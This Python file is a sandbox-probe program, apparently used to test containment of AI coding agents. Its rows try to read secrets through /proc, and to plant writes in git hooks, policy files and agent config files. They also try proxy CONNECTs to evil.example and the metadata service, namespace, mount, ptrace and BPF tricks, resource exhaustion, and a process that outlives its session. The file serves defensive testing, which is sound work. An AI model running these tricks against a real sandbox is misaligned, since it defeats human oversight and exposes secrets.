"""A hostile program: tries one trick after another against the sandbox it runs in, and prints as JSON what it got.

Runs on the standard library alone, as an agent, as a merge request's test, or outside of any sandbox to show that the
trick works. Each row is a function that returns what it got, or raises where it got nothing.
"""

# The plain calls are the tricks:
# ruff: noqa: PTH101, PTH102, PTH103, PTH104, PTH108, PTH109, PTH115, PTH123, PTH208, PTH211
# ruff: noqa: BLE001, T201, PERF401, FURB122

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

Facts = dict[str, Any]
ROWS: dict[str, Callable[[Facts], str]] = {}
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"


def row(function: Callable[[Facts], str]) -> Callable[[Facts], str]:
    ROWS[function.__name__] = function
    return function


def system_call(number: int, *arguments: Any) -> int:
    ctypes.set_errno(0)
    result = int(LIBC.syscall(ctypes.c_long(number), *arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def checked(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def numbered(x86: int, arm: int) -> int:
    return x86 if X86 else arm


# --- what is to be read ---


@row
def secret_in_home(facts: Facts) -> str:
    return Path(facts["home_secret"]).read_text()


@row
def factory_state(facts: Facts) -> str:
    return str(os.listdir(facts["state"])) + Path(facts["state_secret"]).read_text()


@row
def environment_of_another(facts: Facts) -> str:
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if facts["secret"].encode() in (folder / "environ").read_bytes():
                return f"{folder}/environ"
        except OSError:
            continue
    raise PermissionError("no process shows it")


@row
def own_environment(facts: Facts) -> str:
    found = [name for name, value in os.environ.items() if value and ("TOKEN" in name or facts["secret"] in value)]
    if not found:
        raise PermissionError("nothing in the environment")
    return str(found)


@row
def secret_through_proc(facts: Facts) -> str:
    for root in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../../../../../..", "/proc/thread-self/root"):
        try:
            return Path(root + facts["home_secret"]).read_text()
        except OSError:
            continue
    raise PermissionError("no way through /proc")


@row
def open_descriptors(facts: Facts) -> str:
    del facts
    found = {name: os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd") if _is_open(name)}
    strange = {
        name: target
        for name, target in found.items()
        if int(name) > 2 and not target.startswith(("pipe:", "/proc/", "socket:"))
    }
    if not strange:
        raise PermissionError("pipes alone")
    return str(strange)


def _is_open(name: str) -> bool:
    return os.path.lexists(f"/proc/self/fd/{name}")


@row
def processes_of_the_host(facts: Facts) -> str:
    os.kill(facts["bystander"], 0)
    return Path(f"/proc/{facts['bystander']}/cmdline").read_text()


@row
def hard_link_to_a_secret(facts: Facts) -> str:
    os.link(facts["home_secret"], "linked")
    return Path("linked").read_text()


@row
def link_to_a_secret(facts: Facts) -> str:
    Path("pointer").symlink_to(facts["home_secret"])
    return Path("pointer").read_text()


# --- what is to stay as it is ---


def write(path: str) -> str:
    with open(path, "a") as file:
        file.write("planted\n")
    return path


@row
def own_brief(facts: Facts) -> str:
    return write(facts["brief"])


@row
def git_directory(facts: Facts) -> str:
    return write(f"{facts['git_dir']}/config.worktree")


@row
def git_configuration(facts: Facts) -> str:
    return write(f"{facts['mirror']}/config")


@row
def git_hooks(facts: Facts) -> str:
    return write(f"{facts['mirror']}/hooks/pre-commit")


@row
def git_objects(facts: Facts) -> str:
    return write(f"{facts['mirror']}/objects/planted")


@row
def git_file_replaced(facts: Facts) -> str:
    del facts
    os.rename(".git", "moved-git")
    os.mkdir(".git")
    return write(".git/config")


@row
def git_file_rewritten(facts: Facts) -> str:
    del facts
    return write(".git")


@row
def policy_written(facts: Facts) -> str:
    del facts
    return write("policies/gates.yml")


@row
def policy_added(facts: Facts) -> str:
    del facts
    return write("policies/planted.yml")


@row
def policy_swapped_for_a_link(facts: Facts) -> str:
    del facts
    os.mkdir("mine")
    os.rename("policies", "moved-policies")
    os.symlink("mine", "policies")
    return os.readlink("policies")


@row
def policy_exchanged(facts: Facts) -> str:
    del facts
    os.makedirs("other", exist_ok=True)
    exchange = 2  # RENAME_EXCHANGE
    system_call(numbered(316, 276), -100, b"policies", -100, b"other", exchange)
    return "exchanged"


@row
def policy_by_another_path(facts: Facts) -> str:
    del facts
    here = os.getcwd()
    for path in ("policies/../policies", "./policies/.", "/proc/self/cwd/policies", f"/proc/1/root{here}/policies"):
        try:
            return write(f"{path}/gates.yml")
        except OSError:
            continue
    folder = os.open("policies", os.O_RDONLY)
    return write(f"/proc/self/fd/{folder}/gates.yml")


@row
def policy_by_hard_link(facts: Facts) -> str:
    del facts
    os.link("policies/gates.yml", "linked-policy")
    return write("linked-policy")


@row
def policy_by_mode(facts: Facts) -> str:
    del facts
    os.chmod("policies/gates.yml", 0o666)
    os.utime("policies/gates.yml", (1, 1))
    return "changed"


@row
def frozen_link_swapped(facts: Facts) -> str:
    del facts
    os.unlink("CLAUDE.md")
    return write("CLAUDE.md")


@row
def frozen_link_renamed(facts: Facts) -> str:
    del facts
    Path("fresh").write_text("planted")
    os.rename("fresh", "CLAUDE.md")
    return Path("CLAUDE.md").read_text()


@row
def target_of_a_frozen_link(facts: Facts) -> str:
    del facts
    return write("AGENTS.md")


@row
def missing_file_made(facts: Facts) -> str:
    del facts
    return write(".mcp.json")


@row
def missing_folder_made(facts: Facts) -> str:
    del facts
    os.makedirs(".claude", exist_ok=True)
    return write(".claude/settings.json")


@row
def missing_name_taken_by_rename(facts: Facts) -> str:
    del facts
    os.makedirs("prepared", exist_ok=True)
    os.rename("prepared", ".codex")
    return "renamed"


@row
def missing_name_removed_first(facts: Facts) -> str:
    del facts
    os.unlink(".mcp.json")
    return write(".mcp.json")


@row
def parent_of_a_frozen_path_renamed(facts: Facts) -> str:
    del facts
    os.rename("docs", "moved-docs")
    os.makedirs("docs/rules")
    return write("docs/rules/frozen.md")


# --- ways out ---


@row
def loopback_service(facts: Facts) -> str:
    with socket.create_connection(("127.0.0.1", facts["tcp"]), 2) as there:
        return there.recv(100).decode()


@row
def name_lookup(facts: Facts) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.settimeout(1)
        there.sendto(b"query", ("127.0.0.1", facts["udp"]))
        return there.recv(100).decode()


@row
def internet(facts: Facts) -> str:
    del facts
    for family, address in ((socket.AF_INET, ("192.0.2.1", 53)), (socket.AF_INET6, ("2001:db8::1", 53))):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as there:
                there.connect(address)  # needs a route, sends nothing
                return "there is a route"
        except OSError:
            continue
    raise PermissionError("no route")


@row
def unix_socket(facts: Facts) -> str:
    with socket.socket(socket.AF_UNIX) as there:
        there.connect(facts["unix"])
        return there.recv(100).decode()


@row
def abstract_socket(facts: Facts) -> str:
    with socket.socket(socket.AF_UNIX) as there:
        there.connect("\0" + facts["abstract"])
        return there.recv(100).decode()


@row
def machine_socket(facts: Facts) -> str:
    del facts
    socket.socket(40, socket.SOCK_STREAM).close()  # AF_VSOCK: the machine that runs this machine
    return "made"


@row
def packet_socket(facts: Facts) -> str:
    del facts
    socket.socket(17, socket.SOCK_RAW).close()
    return "made"


def ask_proxy(facts: Facts, request: str) -> str:
    with socket.create_connection(("127.0.0.1", facts["proxy"]), 2) as there:
        there.sendall(request.encode())
        answer = there.recv(1000).decode()
    if " 200 " not in answer.split("\r\n")[0]:
        raise PermissionError(answer)
    return answer


@row
def proxy_to_the_internet(facts: Facts) -> str:
    return ask_proxy(facts, "CONNECT evil.example:443 HTTP/1.1\r\n\r\n")


@row
def proxy_to_the_host(facts: Facts) -> str:
    return ask_proxy(facts, f"CONNECT 127.0.0.1:{facts['tcp']} HTTP/1.1\r\n\r\n")


@row
def proxy_to_the_metadata_service(facts: Facts) -> str:
    return ask_proxy(facts, "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n")


@row
def proxy_to_a_foreign_route(facts: Facts) -> str:
    return ask_proxy(facts, "GET /../model/v1 HTTP/1.1\r\n\r\n")


# --- the kernel ---


@row
def user_namespace(facts: Facts) -> str:
    del facts
    checked(LIBC.unshare(0x10000000))
    return "made"


@row
def user_namespace_by_clone(facts: Facts) -> str:
    del facts
    pid = system_call(numbered(56, 220), 0x10000000 | signal.SIGCHLD, None, None, None, None)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "made"


@row
def mount_namespace(facts: Facts) -> str:
    del facts
    checked(LIBC.unshare(0x00020000))
    return "made"


@row
def remount(facts: Facts) -> str:
    del facts
    checked(LIBC.mount(b"none", b"/usr", None, 0x20 | 0x1000, None))
    return write("/usr/planted")


@row
def new_mount(facts: Facts) -> str:
    os.makedirs("mnt", exist_ok=True)
    checked(LIBC.mount(facts["home"].encode(), b"mnt", None, 0x1000, None))
    return str(os.listdir("mnt"))


@row
def unmount(facts: Facts) -> str:
    del facts
    checked(LIBC.umount2(b"policies", 2))
    return "gone"


@row
def change_root(facts: Facts) -> str:
    del facts
    os.chroot(".")
    return "changed"


@row
def make_device(facts: Facts) -> str:
    del facts
    os.mknod("disk", 0o60600, os.makedev(254, 0))
    return "made"


@row
def mode_of_a_device(facts: Facts) -> str:
    del facts
    os.chmod("/dev/full", 0o666)  # what it is anyway
    return "changed"


@row
def set_uid_file(facts: Facts) -> str:
    del facts
    path = Path.cwd() / "left"
    with contextlib.suppress(OSError):
        path.write_bytes(b"x")
        path.chmod(0o4755)
    with contextlib.suppress(OSError):
        os.close(os.open(f"{path}2", os.O_CREAT | os.O_WRONLY, 0o4755))
    with contextlib.suppress(OSError):
        os.mknod(f"{path}3", 0o102755)
    LIBC.syscall(452, -100, bytes(path), 0o6755, 0)  # fchmodat2
    left = [item for item in Path.cwd().glob("left*") if item.stat().st_mode & 0o6000]
    if not left:
        raise PermissionError("no file stays with more than its author's rights")
    return "set-uid file left"


@row
def trace_another(facts: Facts) -> str:
    checked(LIBC.ptrace(0x4206, facts["bystander"], None, None))  # PTRACE_SEIZE does not stop it
    return "traced"


@row
def memory_of_another(facts: Facts) -> str:
    with open(f"/proc/{facts['bystander']}/mem", "rb"):
        return "opened"


@row
def magic_request(facts: Facts) -> str:
    del facts
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "opened"


@row
def kernel_settings(facts: Facts) -> str:
    del facts
    found = []
    for folder, folders, names in os.walk("/proc"):
        folders[:] = [name for name in folders if not (folder == "/proc" and (name.isdigit() or name.endswith("self")))]
        for name in names:
            try:
                os.close(os.open(f"{folder}/{name}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                continue
            found.append(f"{folder}/{name}")
    if not found:
        raise PermissionError("nothing of the kernel can be written")
    return f"{len(found)}: {found[:3]}"


@row
def key_of_the_host(facts: Facts) -> str:
    found = system_call(numbered(249, 218), b"user", facts["key"].encode(), None, 0)
    return str(found)


@row
def new_key(facts: Facts) -> str:
    del facts
    return str(system_call(numbered(248, 217), b"user", b"planted", b"x", ctypes.c_size_t(1), -2))


@row
def ring_of_requests(facts: Facts) -> str:
    del facts
    parameters = ctypes.create_string_buffer(120)
    os.close(system_call(425, 4, parameters))
    return "made"


@row
def kernel_program(facts: Facts) -> str:
    del facts
    attributes = ctypes.create_string_buffer((2).to_bytes(4, sys.byteorder) + b"\4\0\0\0\4\0\0\0\1\0\0\0", 128)
    os.close(system_call(numbered(321, 280), 0, attributes, 128))  # a map: the smallest thing to make
    return "made"


@row
def other_calling_convention(facts: Facts) -> str:
    del facts
    return str(system_call(0x40000000 | 39))  # getpid as x32


@row
def privileges_by_set_uid(facts: Facts) -> str:
    del facts
    if LIBC.prctl(39, 0, 0, 0, 0) == 1:
        raise PermissionError("no new privileges")
    return "set-uid programs count"


@row
def terminal_input(facts: Facts) -> str:
    del facts
    handle = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(handle, 0x5412, b"x")
    return "typed"


@row
def shared_memory(facts: Facts) -> str:
    path = Path("/dev/shm") / facts["shared"]
    path.write_text("planted")
    return str(path)


# --- what is to run out ---


@row
def many_processes(facts: Facts) -> str:
    most = 2 * facts["processes"]
    made: list[int] = []
    try:
        while len(made) < most:
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            made.append(pid)
    except OSError as error:
        raise PermissionError(f"{len(made)} processes") from error
    finally:
        for pid in made:
            os.kill(pid, signal.SIGKILL)
        for pid in made:
            os.waitpid(pid, 0)
    return f"{len(made)} processes"


@row
def much_memory(facts: Facts) -> str:
    held = []
    for _ in range(2 * facts["memory"] // 2**22):
        held.append(b"x" * 2**22)
    return f"{len(held) * 4} MiB"


@row
def memory_in_files(facts: Facts) -> str:
    with open("/dev/shm/big", "wb") as file:
        for _ in range(2 * facts["memory"] // 2**22):
            file.write(b"x" * 2**22)
    return "written"


@row
def huge_file(facts: Facts) -> str:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("huge", "wb") as file:
        try:
            file.truncate(2 * facts["file"])
        finally:
            os.unlink("huge")
    return "written"


@row
def many_files(facts: Facts) -> str:
    resource.setrlimit(resource.RLIMIT_NOFILE, (2 * facts["files"], 2 * facts["files"]))
    return "raised"


@row
def much_time(facts: Facts) -> str:
    while time.process_time() < facts["cpu"] + 1.5:
        pass
    return f"{time.process_time()} s"


@row
def outlives_its_session(facts: Facts) -> str:
    """Leave a process behind; whether it lives on is seen from outside, by the file that it keeps touching."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for handle in range(3, 64):
                try:
                    os.close(handle)
                except OSError:
                    continue
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            until = time.monotonic() + 20
            while time.monotonic() < until:
                Path(facts["heartbeat"]).write_text(str(time.time()))
                time.sleep(0.02)
        os._exit(0)
    os.wait()
    until = time.monotonic() + 3
    while time.monotonic() < until:
        if Path(facts["heartbeat"]).exists():
            return "left behind"
        time.sleep(0.01)
    raise PermissionError("it did not start")


def attempt(name: str, facts: Facts) -> dict[str, Any]:
    """Run a row in a process of its own, so that one that is killed takes nothing along."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            answer = {"got": True, "saw": ROWS[name](facts)[:200]}
        except BaseException as error:
            answer = {"got": False, "saw": f"{type(error).__name__}: {error}"[:200]}
        os.write(write_end, json.dumps(answer).encode())
        os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as file:
        text = file.read() if name != "outlives_its_session" else os.read(file.fileno(), 4096)
    _, status = os.waitpid(pid, 0)
    return json.loads(text) if text else {"got": False, "saw": f"ended with {os.waitstatus_to_exitcode(status)}"}


if __name__ == "__main__":
    given = json.loads(Path(sys.argv[1]).read_text())
    print(json.dumps({name: attempt(name, given) for name in given["rows"]}))
